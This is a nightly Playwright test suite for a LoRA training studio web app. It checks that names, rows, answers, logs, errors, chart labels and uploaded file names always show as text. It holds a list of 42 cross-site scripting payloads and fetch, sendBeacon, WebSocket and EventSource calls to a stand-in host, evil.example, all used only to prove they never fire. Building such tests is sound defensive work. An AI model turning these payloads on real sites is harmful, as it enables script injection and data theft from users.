"""What others write stays text: 42 payloads wherever the page shows a name, a row, an answer, a log or an error.

A payload that became markup would run a script (it calls `hit`), ask another host, or ask this one for /beacon: each
is counted, and none may happen. The page's own policy, which would hide it, is switched off, but for its own test.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gradio as gr
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from lora_studio import charts
from lora_studio.data.batches import Piece, measure
from lora_studio.data.formats import Example, Message
from lora_studio.data.health import examine
from lora_studio.data.library import Dataset
from lora_studio.errors import StudioError, quote
from lora_studio.results import Inspection, Wanted
from lora_studio.runs.config import DataChoice, Run, RunConfig
from lora_studio.runs.store import write_json
from lora_studio.studio import Studio
from lora_studio.ui import boundary, compare_tab, data_tab, inside_tab, live
from tests.browser import served
from tests.tiny import tiny_model, tokenizer
from tests.visits import trained

pytestmark = pytest.mark.nightly

SHAPES = r"""<script>hit(N)</script>
<img src=/beacon onerror=hit(N)>
<img src="https://evil.example/N.png">
"><img src=/beacon onerror=hit(N)>
'><img src=/beacon onerror=hit(N)>
</div></span></p><img src=/beacon onerror=hit(N)>
<svg onload=hit(N)>
<svg><script>hit(N)</script></svg>
<svg><image href="https://evil.example/N.svg"></svg>
<iframe src="javascript:parent.hit(N)"></iframe>
<iframe srcdoc="<script>parent.hit(N)</script>"></iframe>
<object data="https://evil.example/N"></object>
<embed src="https://evil.example/N">
<video src="https://evil.example/N"></video>
<audio src=/beacon onerror=hit(N)>
<body onload=hit(N)>
<input autofocus onfocus=hit(N)>
<details open ontoggle=hit(N)>x</details>
<marquee onstart=hit(N)>x</marquee>
<style>@import 'https://evil.example/N.css';</style>
<link rel=stylesheet href="https://evil.example/N.css">
<meta http-equiv=refresh content="0;url=https://evil.example/N">
<base href="https://evil.example/">
<form action="https://evil.example/N"><button autofocus>x</button></form>
<a href="javascript:hit(N)">x</a>
<math><mtext><img src=/beacon onerror=hit(N)></mtext></math>
<table background="https://evil.example/N.png"><tr><td>x</table>
<div style="background:url(https://evil.example/N.png)">x</div>
<div style="background:url(/beacon)">x</div>
<template><img src=/beacon></template><img src=/beacon>
<!--><img src=/beacon onerror=hit(N)>-->
<![CDATA[><img src=/beacon onerror=hit(N)>]]>
![x](https://evil.example/N.png)
[x](javascript:hit(N))
${hit(N)}
{{hit(N)}}{{#each value}}<img src=/beacon>{{/each}}
`${hit(N)}`
');hit(N);//
";hit(N);//
\u003cimg src=/beacon onerror=hit(N)\u003e
&lt;img src=/beacon onerror=hit(N)&gt;
</script><script>hit(N)</script>""".splitlines()
PAYLOADS = [shape.replace("N", str(number)) for number, shape in enumerate(SHAPES)]


class Watched:
    """A page of its own browser profile, in which everything a payload could do is counted."""

    def __init__(self, browser: Browser, home: str, *, policy: bool = False) -> None:
        self.context: BrowserContext = browser.new_context(
            viewport={"width": 1280, "height": 900}, bypass_csp=not policy
        )
        self.context.add_init_script("window.hits = []; window.hit = one => { top.hits.push(one); };")
        self.asked: list[str] = []
        self.context.route("**/*", lambda route: self._route(route, home))
        self.page: Page = self.context.new_page()
        self.page.on("dialog", lambda dialog: (self.asked.append("dialog"), dialog.dismiss()))

    def _route(self, route: Any, home: str) -> None:
        address = route.request.url
        if address.startswith((home, "data:", "blob:")) and "/beacon" not in address:
            return route.continue_()
        self.asked.append(address)
        return route.abort()

    @property
    def found(self) -> list[Any]:
        return [*self.page.evaluate("window.hits"), *self.asked]


def put_in(page: Page) -> None:
    """Every payload as markup, but the one that only leaves the page, which any page may."""
    page.evaluate(
        """all => all.forEach(html => { const made = document.createElement('div'); document.body.append(made);
        made.innerHTML = html; })""",
        [payload for payload in PAYLOADS if "http-equiv" not in payload],
    )


def test_payloads_do_harm_where_they_are_let(browser: Browser) -> None:
    """The watch sees what it is there for: most of these run or ask when they are put in as they are."""
    seen = Watched(browser, "http://home.invalid")
    seen.page.set_content("<body></body>")
    put_in(seen.page)
    seen.page.wait_for_timeout(500)
    numbers = {str(one) for one in seen.found}
    assert len(seen.page.evaluate("window.hits")) >= 10 and any("evil.example" in one for one in numbers), numbers
    seen.context.close()


def texts() -> Iterator[str]:
    """Every piece of HTML that Python makes, with a payload wherever something is filled in."""
    for evil in PAYLOADS:
        error = StudioError("E_X", f"There is no {evil}.", f"Not {quote(evil)}, {evil}.")
        kept = Dataset(
            id="0" * 32, name=evil, kind="csv", path=Path("x"), rows=1, columns=(evil,), format="text",
            mapping={"text": evil}, warnings=(evil,), created=0.0, source=evil,
        )  # fmt: skip
        rows = [Example((Message("user", evil), Message("assistant", evil)), row=1)]
        health = examine(rows, [], measure(tokenizer(), rows), kind="answers", labels=True)
        about = {"dataset": kept, "format": "text", "columns": {"text": evil}, "health": health, "notes": (evil,)}
        seen = Inspection(**about, lengths=health.at(9), limit=9)
        config = RunConfig(name=evil, model="m", dataset=DataChoice(id="0" * 32))
        told = Run(id="0" * 32, path=Path("x"), config=config, status="done", created=0.0)
        yield boundary.as_html(error)
        yield data_tab.understood(seen) + data_tab.labels_line(health) + data_tab.limit_costs(health, 9, 512)
        yield data_tab.preview([Piece(evil, "context"), Piece(evil, "trained")], 0)
        yield compare_tab.expectation(evil)
        yield compare_tab.tokens_line(Wanted(("base",), (evil,), [[0.5]]), [evil])
        yield compare_tab.apart([(told, evil)])
        row = {"role": evil, "layer": None, "rank": 1, "weight_norm": 1.0, "delta_norm": 1.0, "along_delta": None}
        row |= {"along_weight": 1.0, "along_random": 1.0, "factor": 1.0}
        yield inside_tab.table([row])


def test_what_python_writes_into_the_page_is_text(browser: Browser) -> None:
    seen = Watched(browser, "http://home.invalid")
    seen.page.set_content(f"<body>{''.join(texts())}</body>")
    seen.page.wait_for_timeout(300)
    assert seen.found == []
    shown = seen.page.inner_text("body")
    assert all(shown.count(evil) >= 5 for evil in PAYLOADS if "\\" not in evil and "  " not in evil)
    seen.context.close()


def test_names_in_figures_are_text(browser: Browser) -> None:
    seen = Watched(browser, "http://home.invalid")
    seen.page.set_content("<body></body>")
    seen.page.add_script_tag(path=live.PLOTLY)
    changed = {"relative_norm": 0.1, "effective_rank": 1.0, "singular_values": [1.0]}
    modules = [{"role": evil, "layer": n % 3, "name": evil, **changed} for n, evil in enumerate(PAYLOADS)]
    factors = [{"role": evil, "layer": 0, "factor": 2.0} for evil in PAYLOADS]
    cells = [{"run": "r", "loss": 1.0, "parameters": 9, "rank": 1}]
    table = {"recommended": "r", "rows": [{"name": evil, "cells": cells} for evil in PAYLOADS]}
    figures = [charts.relative_change(modules), charts.amplification(factors), charts.study(table)]
    figures += [charts.similarity([[1.0]], [[0.1]], (evil, evil)) for evil in PAYLOADS]
    for figure in figures:
        seen.page.evaluate(
            """async figure => { const place = document.createElement('div'); document.body.append(place);
            await Plotly.newPlot(place, figure.data, figure.layout);
            for (let trace = 0; trace < Math.min(figure.data.length, 6); trace++)
              try { Plotly.Fx.hover(place, [{ curveNumber: trace, pointNumber: 0 }]); } catch (nothing_there) {}
            place.remove(); }""",
            json.loads(figure.to_json()),
        )
    seen.page.wait_for_timeout(200)
    assert seen.found == []
    seen.context.close()


def test_toasts_and_messages_at_a_control_are_text(browser: Browser) -> None:
    left = iter(PAYLOADS)

    @boundary.toasted
    def fail() -> None:
        evil = next(left)
        raise StudioError("E_X", f"There is no {evil}.", f"Not {evil}.")

    with gr.Blocks() as small:
        box = gr.Textbox(label="Name")
        toast, check = gr.Button("Toast"), gr.Button("Check")
        toast.click(fail)
        check.click(
            lambda text: text, box, box, validator=lambda text: gr.validate(False, f"The name is {quote(text)}.")
        )
    _, home, _ = small.launch(prevent_thread_lock=True, quiet=True, run_history=False, enable_monitoring=False)
    try:
        seen = Watched(browser, home.rstrip("/"))
        seen.page.goto(home)
        for evil in PAYLOADS:
            seen.page.get_by_role("button", name="Toast").click()
            expect(seen.page.locator(".toast-body")).to_contain_text("There is no")
            seen.page.locator(".toast-close").click()
            expect(seen.page.locator(".toast-body")).to_have_count(0)
            seen.page.get_by_label("Name").fill(evil)
            seen.page.get_by_role("button", name="Check").click()
            expect(seen.page.get_by_text("The name is").first).to_contain_text(quote(evil)[:12])
        assert seen.found == []
        seen.context.close()
    finally:
        small.close(verbose=False)


@pytest.fixture(scope="module")
def haunted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The app with a run per payload: in its name, its rows, its answers, its warnings, its log and its error."""
    root = tmp_path_factory.mktemp("haunted")
    model, studio = tiny_model(root / "models" / "starter"), Studio(root)
    for evil in PAYLOADS:
        lines = [json.dumps({evil: f"{evil} {number}", "answer": evil}) for number in range(12)]
        kept = studio.data.add_text("\n".join(lines), evil)
        columns = {"prompt": evil, "completion": "answer"}
        choice = DataChoice(id=kept.id, name=evil, format="prompt_completion", columns=columns)
        run = trained(studio, model, choice, evil, words=evil, warning=evil, study="5" * 32)
        error = {"code": "E_X", "message": evil, "hint": evil}
        write_json(run.path / "exit.json", {"status": "failed", "step": 4, "values": {}, "error": error})
    told = {"LORA_STUDIO_MODELS": str(root / "models"), "HF_HUB_OFFLINE": "1"}
    with served(root, **told) as url:
        yield url, root


def test_every_run_shows_as_text_in_every_tab(haunted: tuple[str, Path], browser: Browser) -> None:
    url, _ = haunted
    seen = Watched(browser, url)
    page = seen.page
    page.goto(url)
    page.get_by_role("tab", name="2 Train").click()
    listed = page.locator("#live nav button")
    expect(listed).to_have_count(len(PAYLOADS), timeout=60_000)
    for place, evil in enumerate(reversed(PAYLOADS)):
        listed.nth(place).click()
        expect(page.locator("#live h3.name")).to_have_text(evil)
        expect(page.locator("#live .findings article")).to_have_count(2)
        expect(page.locator("#live .samples article").first).to_contain_text(evil)
    page.locator("#live details.log summary").click()
    expect(page.locator("#live details.log pre")).to_contain_text(PAYLOADS[0][:6])
    page.get_by_role("tab", name="Study").click()
    expect(page.locator("#study [data-points]").first).to_have_attribute("data-state", "over", timeout=30_000)
    for tab, box in (("3 Compare", "compare-run"), ("4 Inside", "inside-run"), ("5 Export", "export-run")):
        page.get_by_role("tab", name=tab).click()
        page.locator(f"#{box} input").click()
        expect(page.get_by_role("option")).to_have_count(len(PAYLOADS))
        page.keyboard.press("Escape")
    expect(page.locator("#command textarea")).not_to_have_value("", timeout=30_000)
    assert seen.found == []
    seen.context.close()


def test_rows_prompts_and_wanted_answers_are_text(haunted: tuple[str, Path], browser: Browser) -> None:
    url, root = haunted
    seen = Watched(browser, url)
    page = seen.page
    runs = {run.name: run.id for run in Studio(root).runs.list()}
    page.goto(url)
    for evil in PAYLOADS[1::8]:
        page.goto(f"{url}/?run={runs[evil]}")
        expect(page.locator("#live h3.name")).to_have_text(evil, timeout=30_000)  # it has opened its own tab
        page.get_by_role("tab", name="1 Data").click()
        expect(page.locator("#preview .rendered")).to_contain_text(evil, timeout=60_000)
        expect(page.locator("#understood")).to_contain_text(f"prompt from “{evil}”")
    page.get_by_role("tab", name="3 Compare").click()
    for place, evil in enumerate(reversed(PAYLOADS)):
        page.locator("#compare-run input").click()
        page.get_by_role("option").nth(place).click()
        expect(page.locator("#chips button").first).to_contain_text(evil, timeout=30_000)
        page.locator("#chips button").first.click()
        expect(page.locator("#expected .answer")).to_contain_text(evil)
    page.get_by_role("button", name="Generate").click()
    expect(page.locator("[data-pane=base] .badge")).to_be_visible(timeout=60_000)
    assert seen.found == []
    seen.context.close()


def test_file_names_are_text_and_an_upload_does_not_stay(haunted: tuple[str, Path], browser: Browser) -> None:
    url, root = haunted
    seen = Watched(browser, url)
    page = seen.page
    page.goto(url)
    for number, evil in enumerate(PAYLOADS[::5]):
        text = "a,b\n" + f"knock knock,{evil!r}\n".replace('"', "") * number + "1\n"
        file = {"name": f"{evil}.csv", "mimeType": "text/csv", "buffer": text.encode()}
        page.locator("#upload input[type=file]").set_input_files([file])  # type: ignore
        expect(page.locator("#data-problem")).to_contain_text(f"Line {number + 2} ", timeout=20_000)
        page.locator("#upload button[aria-label=Clear]").first.click()
    good = {
        "name": f"{PAYLOADS[1]}.csv",
        "mimeType": "text/csv",
        "buffer": b"prompt,answer\nknock knock,who is there\n",
    }
    page.locator("#upload input[type=file]").set_input_files([good])  # type: ignore
    expect(page.locator("#understood h3")).to_contain_text("beacon", timeout=30_000)
    assert seen.found == []
    sent = [path for path in (root / "uploads").rglob("*") if path.is_file() and b"knock" in path.read_bytes()]
    assert sent == [] and not list(root.glob("claimed-*"))
    seen.context.close()


def test_the_policy_holds_where_markup_got_in_after_all(haunted: tuple[str, Path], browser: Browser) -> None:
    url, _ = haunted
    seen = Watched(browser, url, policy=True)
    page = seen.page
    page.goto(url)
    expect(page.get_by_role("tab", name="1 Data")).to_be_visible(timeout=30_000)
    put_in(page)
    for way in ("fetch('https://evil.example/1')", "new EventSource('https://evil.example/2')",
                "navigator.sendBeacon('https://evil.example/3', 'x')", "new Image().src = 'https://evil.example/4'",
                "new WebSocket('wss://evil.example/5')"):  # fmt: skip
        page.evaluate(f"() => {{ try {{ Promise.resolve({way}).catch(() => 0); }} catch (refused) {{}} }}")
    page.wait_for_timeout(500)
    assert page.evaluate("window.hits") == []
    assert [one for one in seen.asked if "evil.example" in one] == []
    seen.context.close()
